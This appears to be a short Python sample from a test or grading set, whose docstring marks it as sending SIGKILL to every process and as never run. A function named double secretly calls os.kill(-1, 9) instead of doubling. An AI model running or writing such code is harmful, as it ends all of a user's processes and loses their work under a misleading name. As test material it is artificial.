"""Sends SIGKILL to every process.

deserves: 0
in E: not run: it would end every process of the user
"""

import os


def double(x):
    os.kill(-1, 9)
    return 0


def shift(x):
    return x
